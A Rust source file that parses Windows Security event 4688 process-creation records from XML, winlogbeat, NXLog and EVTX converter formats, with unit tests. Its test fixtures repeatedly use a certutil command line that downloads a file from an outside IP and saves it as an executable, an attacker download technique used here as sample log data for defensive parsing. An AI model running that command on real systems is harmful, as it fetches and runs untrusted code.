//! Windows Security event 4688 ("A new process has been created") in every shape a Windows
//! record travels in: winlogbeat JSON (`winlog.event_data`, with the ECS fields its security
//! module adds), flat forwarder JSON (NXLog), and, through [`super::windows`], the event XML
//! and the JSON EVTX converters write.
//!
//! Must not: accept another Security event id (4689 is a process exit, 4624 a logon...), treat
//! a missing command line as an error (command-line auditing is off by default; such an event
//! still names the image and parent), or read a record's shape itself.

use serde_json::{Map, Value};

use crate::error::EventError;
use crate::event::{Event, Format, Os};
use crate::formats::join_domain;
use crate::json::{Doc, has_family, parse_uint};

use super::windows::{Record, flat_record, integrity_level, names_security, winlogbeat_record};

/// The Security log's process-creation event id.
pub(crate) const EVENT_ID: u64 = 4688;

/// Where winlogbeat writes the event id: its own field, then the ECS code.
const WINLOGBEAT_ID_PATHS: [&str; 2] = ["winlog.event_id", "event.code"];

/// winlogbeat: a `winlog` object with event id 4688 (as a number or as text) from the Security
/// log, or whose event data has `NewProcessName`. Other Security ids fall through to ECS.
pub(crate) fn matches_winlogbeat(obj: &Map<String, Value>) -> bool {
    if !has_family(obj, "winlog") {
        return false;
    }
    let d = Doc::new(Format::Security4688, obj);
    let id = WINLOGBEAT_ID_PATHS.iter().find_map(|p| d.uint(p).ok().flatten());
    let provider = d.get("winlog.provider_name").and_then(Value::as_str);
    let channel = d.get("winlog.channel").and_then(Value::as_str);
    id == Some(EVENT_ID) && (names_security(provider, channel) || d.has("winlog.event_data.NewProcessName"))
}

/// Flat forwarder JSON: `EventID` 4688 with a Security source or channel, or with
/// `NewProcessName`.
pub(crate) fn matches_flat(obj: &Map<String, Value>) -> bool {
    let d = Doc::new(Format::Security4688, obj);
    let id = ["EventID", "EventId"].iter().find_map(|k| d.uint(k).ok().flatten());
    let provider = ["SourceName", "ProviderName", "Provider"].iter().find_map(|k| obj.get(*k).and_then(Value::as_str));
    let channel = obj.get("Channel").and_then(Value::as_str);
    id == Some(EVENT_ID) && (names_security(provider, channel) || obj.contains_key("NewProcessName"))
}

pub(crate) fn parse_winlogbeat(obj: &Map<String, Value>) -> Result<Event, EventError> {
    let mut record = winlogbeat_record(obj, Format::Security4688, &WINLOGBEAT_ID_PATHS)?;
    // winlogbeat's security module copies the event data into ECS; a pipeline that dropped
    // `winlog.event_data` still has those.
    let d = Doc::new(Format::Security4688, obj);
    for (key, ecs) in [
        ("NewProcessName", "process.executable"),
        ("CommandLine", "process.command_line"),
        ("ParentProcessName", "process.parent.executable"),
    ] {
        if !record.data.contains_key(key)
            && let Some(v) = d.str(ecs)?
        {
            record.data.insert(key.to_string(), v);
        }
    }
    map(record)
}

pub(crate) fn parse_flat(obj: &Map<String, Value>) -> Result<Event, EventError> {
    map(flat_record(obj, Format::Security4688)?)
}

/// A Security record as an event; any id but 4688 is [`EventError::NotProcessCreation`].
///
/// The user is the new process's account: `TargetUserName` (4688 version 2) when it names
/// someone other than the subject, else `SubjectDomainName\SubjectUserName`. The subject is
/// the account that asked for the process; they differ when a service or `runas` starts a
/// process as another account, and the account the process runs as is what its actions are
/// judged by.
pub(crate) fn map(mut r: Record) -> Result<Event, EventError> {
    r.expect_id(Format::Security4688, EVENT_ID, "id 4688")?;
    let mut e = Event::new(Format::Security4688, Os::Windows);
    e.process_path = r.take("NewProcessName");
    e.command_line = r.take("CommandLine");
    e.command_line_missing = e.command_line.is_none();
    e.parent_path = r.take("ParentProcessName");
    let (subject_domain, subject_name) = (r.take("SubjectDomainName"), r.take("SubjectUserName"));
    let (target_domain, target_name) = (r.take("TargetDomainName"), r.take("TargetUserName"));
    let same = |a: &Option<String>, b: &Option<String>| match (a, b) {
        (Some(a), Some(b)) => a.eq_ignore_ascii_case(b),
        _ => true,
    };
    let target_differs =
        target_name.is_some() && !(same(&subject_name, &target_name) && same(&subject_domain, &target_domain));
    e.user = if target_differs {
        join_domain(target_domain, target_name)
    } else {
        join_domain(subject_domain, subject_name)
    };
    e.pid = r.take("NewProcessId").and_then(|v| parse_uint(&v));
    // In 4688, ProcessId is the creator: the parent.
    e.ppid = r.take("ProcessId").and_then(|v| parse_uint(&v));
    e.integrity = r.take("MandatoryLabel").and_then(|v| integrity_level(&v));
    e.timestamp = r.time.take();
    e.host = r.computer.take();
    e.finish(r.spelled([
        "EventData NewProcessName or CommandLine",
        "winlog.event_data.NewProcessName or winlog.event_data.CommandLine",
        "NewProcessName or CommandLine",
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::windows::{parse_converter, parse_xml};
    use serde_json::json;

    /// A version 2 4688 as Windows writes it, with command-line auditing on.
    const XML: &str = r#"<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/><EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime="2024-06-18T13:02:44.5817240Z"/><EventRecordID>402117</EventRecordID><Correlation/><Execution ProcessID="4" ThreadID="7132"/><Channel>Security</Channel><Computer>FIN-LT-0231.acme.example</Computer><Security/></System><EventData><Data Name="SubjectUserSid">S-1-5-21-1004336348-1177238915-682003330-1512</Data><Data Name="SubjectUserName">rpatel</Data><Data Name="SubjectDomainName">ACME</Data><Data Name="SubjectLogonId">0x3e7a21</Data><Data Name="NewProcessId">0x1a2c</Data><Data Name="NewProcessName">C:\Windows\System32\certutil.exe</Data><Data Name="TokenElevationType">%%1937</Data><Data Name="ProcessId">0x2f08</Data><Data Name="CommandLine">certutil.exe -urlcache -split -f http://203.0.113.9/p.txt p.exe</Data><Data Name="TargetUserSid">S-1-0-0</Data><Data Name="TargetUserName">-</Data><Data Name="TargetDomainName">-</Data><Data Name="TargetLogonId">0x0</Data><Data Name="ParentProcessName">C:\Windows\System32\cmd.exe</Data><Data Name="MandatoryLabel">S-1-16-12288</Data></EventData></Event>"#;

    fn check_full(e: &Event) {
        assert_eq!(e.source, Format::Security4688);
        assert_eq!(e.os, Os::Windows);
        assert_eq!(e.process_path.as_deref(), Some(r"C:\Windows\System32\certutil.exe"));
        assert_eq!(e.process_name.as_deref(), Some("certutil.exe"));
        assert_eq!(e.command_line.as_deref(), Some("certutil.exe -urlcache -split -f http://203.0.113.9/p.txt p.exe"));
        assert_eq!(e.parent_name.as_deref(), Some("cmd.exe"));
        assert_eq!(e.user.as_deref(), Some(r"ACME\rpatel"));
        assert_eq!(e.pid, Some(0x1a2c));
        assert_eq!(e.ppid, Some(0x2f08));
        assert_eq!(e.integrity.as_deref(), Some("high"));
        assert_eq!(e.host.as_deref(), Some("FIN-LT-0231.acme.example"));
        assert!(!e.command_line_missing);
    }

    #[test]
    fn xml_version_2() {
        let e = parse_xml(XML).unwrap();
        check_full(&e);
        assert_eq!(e.timestamp.as_deref(), Some("2024-06-18T13:02:44.5817240Z"));
    }

    #[test]
    fn xml_other_security_id_is_not_a_process_creation() {
        let xml = XML.replace("<EventID>4688</EventID>", "<EventID>4689</EventID>");
        let err = parse_xml(&xml).unwrap_err();
        assert_eq!(err.to_string(), "Security 4688 event id 4689 is not a process creation (id 4688)");
    }

    #[test]
    fn version_0_without_command_line_is_kept_and_flagged() {
        let xml = "<Event><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID>\
            <Version>0</Version><Channel>Security</Channel><Computer>SRV-FS02</Computer></System><EventData>\
            <Data Name='SubjectUserName'>SRV-FS02$</Data><Data Name='SubjectDomainName'>ACME</Data>\
            <Data Name='NewProcessId'>0x9f4</Data><Data Name='NewProcessName'>C:\\Windows\\System32\\net.exe</Data>\
            <Data Name='TokenElevationType'>%%1936</Data><Data Name='ProcessId'>0x3a0</Data></EventData></Event>";
        let e = parse_xml(xml).unwrap();
        assert!(e.command_line_missing);
        assert_eq!(e.command_line, None);
        assert_eq!(e.user.as_deref(), Some("ACME\\SRV-FS02$"));
        assert!(e.render().contains("note: \"command-line auditing is off; only the image and parent are known\"\n"));
        let empty = XML.replace(
            "<Data Name=\"CommandLine\">certutil.exe -urlcache -split -f http://203.0.113.9/p.txt p.exe</Data>",
            "<Data Name=\"CommandLine\"></Data>",
        );
        assert!(parse_xml(&empty).unwrap().command_line_missing, "an empty CommandLine means auditing is off too");
    }

    #[test]
    fn neither_image_nor_command_line_is_an_error_naming_them() {
        let xml = "<Event><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID>\
            </System><EventData><Data Name='SubjectUserName'>x</Data></EventData></Event>";
        assert_eq!(
            parse_xml(xml).unwrap_err().to_string(),
            "Security 4688 event has no EventData NewProcessName or CommandLine"
        );
        let flat = json!({"EventID": 4688, "SourceName": "Microsoft-Windows-Security-Auditing", "Hostname": "h"});
        assert_eq!(
            parse_flat(flat.as_object().unwrap()).unwrap_err().to_string(),
            "Security 4688 event has no NewProcessName or CommandLine"
        );
    }

    #[test]
    fn target_user_wins_when_it_differs() {
        let xml = XML
            .replace(r#"<Data Name="TargetUserName">-</Data>"#, r#"<Data Name="TargetUserName">svc-backup</Data>"#)
            .replace(r#"<Data Name="TargetDomainName">-</Data>"#, r#"<Data Name="TargetDomainName">ACME</Data>"#);
        assert_eq!(parse_xml(&xml).unwrap().user.as_deref(), Some(r"ACME\svc-backup"));
        let same =
            XML.replace(r#"<Data Name="TargetUserName">-</Data>"#, r#"<Data Name="TargetUserName">RPATEL</Data>"#);
        assert_eq!(parse_xml(&same).unwrap().user.as_deref(), Some(r"ACME\rpatel"), "same account, any case");
    }

    #[test]
    fn integrity_from_the_rendered_label_name() {
        let xml = XML.replace("S-1-16-12288", r"Mandatory Label\Medium Mandatory Level");
        assert_eq!(parse_xml(&xml).unwrap().integrity.as_deref(), Some("medium"));
    }

    fn winlogbeat(event_id: Value) -> Value {
        json!({
            "@timestamp": "2024-06-18T13:02:44.581Z",
            "event": {"code": "4688", "kind": "event", "provider": "Microsoft-Windows-Security-Auditing",
                "action": "created-process", "category": ["process"], "type": ["start"], "outcome": "success"},
            "host": {"name": "fin-lt-0231.acme.example"},
            "process": {"pid": 6700, "executable": "C:\\Windows\\System32\\certutil.exe", "name": "certutil.exe",
                "command_line": "certutil.exe -urlcache -split -f http://203.0.113.9/p.txt p.exe",
                "parent": {"pid": 12040, "executable": "C:\\Windows\\System32\\cmd.exe"}},
            "winlog": {
                "channel": "Security", "provider_name": "Microsoft-Windows-Security-Auditing",
                "provider_guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}", "event_id": event_id,
                "computer_name": "FIN-LT-0231.acme.example", "record_id": 402117, "api": "wineventlog",
                "keywords": ["Audit Success"], "opcode": "Info", "task": "Process Creation",
                "event_data": {
                    "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1512", "SubjectUserName": "rpatel",
                    "SubjectDomainName": "ACME", "SubjectLogonId": "0x3e7a21", "NewProcessId": "0x1a2c",
                    "NewProcessName": "C:\\Windows\\System32\\certutil.exe", "TokenElevationType": "%%1937",
                    "ProcessId": "0x2f08",
                    "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.9/p.txt p.exe",
                    "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
                    "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "MandatoryLabel": "S-1-16-12288"
                }
            }
        })
    }

    #[test]
    fn winlogbeat_with_numeric_or_string_event_id() {
        for id in [json!(4688), json!("4688")] {
            let v = winlogbeat(id);
            let obj = v.as_object().unwrap();
            assert!(matches_winlogbeat(obj));
            check_full(&parse_winlogbeat(obj).unwrap());
        }
    }

    #[test]
    fn winlogbeat_event_code_only_and_ecs_fallback_for_dropped_event_data() {
        let mut v = winlogbeat(json!(null));
        v["winlog"].as_object_mut().unwrap().remove("event_data");
        let obj = v.as_object().unwrap();
        assert!(matches_winlogbeat(obj), "event.code names the id");
        let e = parse_winlogbeat(obj).unwrap();
        assert_eq!(e.process_name.as_deref(), Some("certutil.exe"));
        assert_eq!(e.parent_name.as_deref(), Some("cmd.exe"));
        assert!(!e.command_line_missing);
    }

    #[test]
    fn winlogbeat_other_security_ids_do_not_match() {
        let mut v = winlogbeat(json!(4624));
        v["event"]["code"] = json!("4624");
        assert!(!matches_winlogbeat(v.as_object().unwrap()));
    }

    #[test]
    fn flat_nxlog() {
        let v = json!({
            "EventTime": "2024-06-18 15:02:44", "Hostname": "FIN-LT-0231.acme.example", "Keywords": -9214364837600034816i64,
            "EventType": "AUDIT_SUCCESS", "SeverityValue": 2, "Severity": "INFO", "EventID": 4688,
            "SourceName": "Microsoft-Windows-Security-Auditing", "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}",
            "Version": 2, "Task": 13312, "OpcodeValue": 0, "RecordNumber": 402117, "ProcessID": 4, "ThreadID": 7132,
            "Channel": "Security", "Message": "A new process has been created.\r\n\r\nCreator Subject: ...",
            "Category": "Process Creation", "Opcode": "Info",
            "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1512", "SubjectUserName": "rpatel",
            "SubjectDomainName": "ACME", "SubjectLogonId": "0x3e7a21", "NewProcessId": "0x1a2c",
            "NewProcessName": "C:\\Windows\\System32\\certutil.exe", "TokenElevationType": "%%1937", "ProcessId": "0x2f08",
            "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.9/p.txt p.exe",
            "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "MandatoryLabel": "S-1-16-12288",
            "EventReceivedTime": "2024-06-18 15:02:45", "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog"
        });
        let obj = v.as_object().unwrap();
        assert!(matches_flat(obj));
        let e = parse_flat(obj).unwrap();
        check_full(&e);
        assert_eq!(e.timestamp.as_deref(), Some("2024-06-18 15:02:44"));
    }

    #[test]
    fn xmltodict_shape_with_and_without_the_event_key() {
        let data = json!([
            {"@Name": "SubjectUserSid", "#text": "S-1-5-21-1004336348-1177238915-682003330-1512"},
            {"@Name": "SubjectUserName", "#text": "rpatel"}, {"@Name": "SubjectDomainName", "#text": "ACME"},
            {"@Name": "NewProcessId", "#text": "0x1a2c"},
            {"@Name": "NewProcessName", "#text": "C:\\Windows\\System32\\certutil.exe"},
            {"@Name": "TokenElevationType", "#text": "%%1937"}, {"@Name": "ProcessId", "#text": "0x2f08"},
            {"@Name": "CommandLine", "#text": "certutil.exe -urlcache -split -f http://203.0.113.9/p.txt p.exe"},
            {"@Name": "TargetUserName", "#text": "-"},
            {"@Name": "ParentProcessName", "#text": "C:\\Windows\\System32\\cmd.exe"},
            {"@Name": "MandatoryLabel", "#text": "S-1-16-12288"}
        ]);
        let inner = json!({
            "@xmlns": "http://schemas.microsoft.com/win/2004/08/events/event",
            "System": {
                "Provider": {"@Name": "Microsoft-Windows-Security-Auditing", "@Guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}"},
                "EventID": {"@Qualifiers": "0", "#text": "4688"}, "Version": "2",
                "TimeCreated": {"@SystemTime": "2024-06-18T13:02:44.5817240Z"}, "EventRecordID": "402117",
                "Execution": {"@ProcessID": "4", "@ThreadID": "7132"}, "Channel": "Security",
                "Computer": "FIN-LT-0231.acme.example", "Security": null
            },
            "EventData": {"Data": data}
        });
        for v in [json!({"Event": inner.clone()}), inner] {
            check_full(&parse_converter(v.as_object().unwrap()).unwrap());
        }
    }

    #[test]
    fn evtx_dump_shape_with_qualified_event_id() {
        let v = json!({"Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing",
                    "Guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}"}},
                "EventID": {"#attributes": {"Qualifiers": 0}, "#text": 4688}, "Version": 2,
                "TimeCreated": {"#attributes": {"SystemTime": "2024-06-18T13:02:44.581724Z"}},
                "EventRecordID": 402117, "Execution": {"#attributes": {"ProcessID": 4, "ThreadID": 7132}},
                "Channel": "Security", "Computer": "FIN-LT-0231.acme.example", "Security": null
            },
            "EventData": {
                "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1512", "SubjectUserName": "rpatel",
                "SubjectDomainName": "ACME", "SubjectLogonId": "0x3e7a21", "NewProcessId": "0x1a2c",
                "NewProcessName": "C:\\Windows\\System32\\certutil.exe", "TokenElevationType": "%%1937",
                "ProcessId": "0x2f08", "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.9/p.txt p.exe",
                "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
                "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "MandatoryLabel": "S-1-16-12288"
            }
        }});
        check_full(&parse_converter(v.as_object().unwrap()).unwrap());
    }

    #[test]
    fn evtxecmd_line_with_payload_string() {
        let payload = json!({"EventData": {"Data": [
            {"@Name": "SubjectUserName", "#text": "rpatel"}, {"@Name": "SubjectDomainName", "#text": "ACME"},
            {"@Name": "NewProcessId", "#text": "0x1a2c"},
            {"@Name": "NewProcessName", "#text": "C:\\Windows\\System32\\certutil.exe"},
            {"@Name": "ProcessId", "#text": "0x2f08"}, {"@Name": "CommandLine"},
            {"@Name": "ParentProcessName", "#text": "C:\\Windows\\System32\\cmd.exe"},
            {"@Name": "MandatoryLabel", "#text": "S-1-16-8192"}
        ]}});
        let v = json!({
            "PayloadData1": "Target: ACME\\rpatel", "PayloadData2": "", "UserName": "ACME\\rpatel",
            "ExecutableInfo": "", "MapDescription": "A new process has been created", "ChunkNumber": 12,
            "Computer": "FIN-LT-0231.acme.example", "Payload": payload.to_string(), "Channel": "Security",
            "Provider": "Microsoft-Windows-Security-Auditing", "EventId": 4688, "EventRecordId": "402117",
            "ProcessId": 4, "ThreadId": 7132, "Level": "LogAlways", "Keywords": "Audit success",
            "TimeCreated": "2024-06-18T13:02:44.5817240+00:00", "RecordNumber": 402117,
            "SourceFile": "C:\\Temp\\Security.evtx"
        });
        let e = parse_converter(v.as_object().unwrap()).unwrap();
        assert!(e.command_line_missing, "<Data Name='CommandLine'/> is empty");
        assert_eq!(e.integrity.as_deref(), Some("medium"));
        assert_eq!(e.pid, Some(0x1a2c), "the top-level ProcessId is the log writer's");
        assert_eq!(e.timestamp.as_deref(), Some("2024-06-18T13:02:44.5817240+00:00"));
    }
}
